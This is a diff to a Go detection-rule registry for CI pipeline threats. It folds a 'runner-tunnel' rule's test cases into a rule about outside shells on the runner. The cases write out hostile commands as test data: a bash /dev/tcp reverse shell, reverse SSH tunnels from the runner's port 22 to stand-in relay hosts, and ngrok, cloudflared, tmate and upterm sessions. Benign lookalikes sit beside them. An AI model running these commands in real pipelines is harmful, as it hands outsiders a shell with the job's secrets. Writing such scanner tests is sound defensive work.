@@ -731,6 +731,23 @@ var registry = []Rule{
 		"it gives a machine outside a shell inside the project's network and runner", []Case{
 			{"x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, false},
 			{"x.sh", "nc -lvp 4444", 0, true},
+			// The shell reader's tunnels, by parsed command.
+			{".build.yml", "image: alpine/edge\ntasks:\n  - tunnel: |\n      ssh -o StrictHostKeyChecking=no -f -N -R 2222:localhost:22 relay@ci.x.invalid\n      sleep 21600", 4, false},
+			{"x.sh", "ssh -fNR2222:localhost:22 u@x.invalid", 0, false},
+			{"x.sh", "autossh -M 0 -o RemoteForward=\"2222 localhost:22\" u@x.invalid", 0, false},
+			{"x.sh", "ngrok tcp 22 --authtoken \"$T\" &", 0, false},
+			{"x.sh", "cloudflared tunnel --url ssh://localhost:22", 0, false},
+			{"x.sh", "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock wait tmate-ready", 0, false},
+			{".gitlab-ci.yml", "debug:\n  script:\n    - upterm host --force-command 'bash' -- bash", 3, false},
+			// TeamCity's Kotlin settings: a script step's scriptContent is shell.
+			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                ssh -fNR 2222:localhost:22 u@x.invalid\n            \"\"\".trimIndent()\n        }\n    }\n})", 5, false},
+			// Forwards out of the runner, and host keys, open no way in.
+			{"x.sh", "ssh -L 5432:db.internal:5432 -N bastion.x.invalid &", 0, true},
+			{"x.sh", "ssh-keygen -R github.com", 0, true},
+			// The remote command's flags are not ssh's.
+			{"x.sh", "ssh -i deploy.key deploy@x.invalid sudo chown -R app:app /srv/app", 0, true},
+			{"x.sh", "ngrok version", 0, true},
+			{"x.sh", "sudo apt-get install -y tmate", 0, true},
 			// A runner's SSH port forwarded to a relay outside (the reverse
 			// tunnels of runner takeovers); forwarding a remote port to
 			// here, or a preview of a local web server, lets nobody in.
@@ -939,25 +956,6 @@ var registry = []Rule{
 			{"x.sh", "java -jar jenkins-cli.jar -s https://ci.x.invalid/ -auth @creds build deploy", 0, true},
 			// An installer telling the user how to start the agent it installed.
 			{"install.sh", "echo -e \"\nInstalled to ${D}\n\nYou can now start the agent!\n\n  ${D}/bin/buildkite-agent start\n\"", 0, true},
-		}},
-	{"runner-tunnel", KindRunner, High, "opens a way into the runner from outside (a reverse tunnel or a shared terminal)",
-		"whoever holds the other end gets a shell or a port on the runner while the job runs, with its token, secrets and network, and the job can be kept running to hold it", []Case{
-			{".build.yml", "image: alpine/edge\ntasks:\n  - tunnel: |\n      ssh -o StrictHostKeyChecking=no -f -N -R 2222:localhost:22 relay@ci.x.invalid\n      sleep 21600", 4, false},
-			{"x.sh", "ssh -fNR2222:localhost:22 u@x.invalid", 0, false},
-			{"x.sh", "autossh -M 0 -o RemoteForward=\"2222 localhost:22\" u@x.invalid", 0, false},
-			{"x.sh", "ngrok tcp 22 --authtoken \"$T\" &", 0, false},
-			{"x.sh", "cloudflared tunnel --url ssh://localhost:22", 0, false},
-			{"x.sh", "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock wait tmate-ready", 0, false},
-			{".gitlab-ci.yml", "debug:\n  script:\n    - upterm host --force-command 'bash' -- bash", 3, false},
-			// TeamCity's Kotlin settings: a script step's scriptContent is shell.
-			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                ssh -fNR 2222:localhost:22 u@x.invalid\n            \"\"\".trimIndent()\n        }\n    }\n})", 5, false},
-			// Forwards out of the runner, and host keys, open no way in.
-			{"x.sh", "ssh -L 5432:db.internal:5432 -N bastion.x.invalid &", 0, true},
-			{"x.sh", "ssh-keygen -R github.com", 0, true},
-			// The remote command's flags are not ssh's.
-			{"x.sh", "ssh -i deploy.key deploy@x.invalid sudo chown -R app:app /srv/app", 0, true},
-			{"x.sh", "ngrok version", 0, true},
-			{"x.sh", "sudo apt-get install -y tmate", 0, true},
 		}},
 	{"runner-memory-read", KindRunner, High, "reads the runner worker's memory",
 		"the Runner.Worker process holds every secret of the job unmasked; dumping its memory is how the tj-actions compromise printed them", []Case{
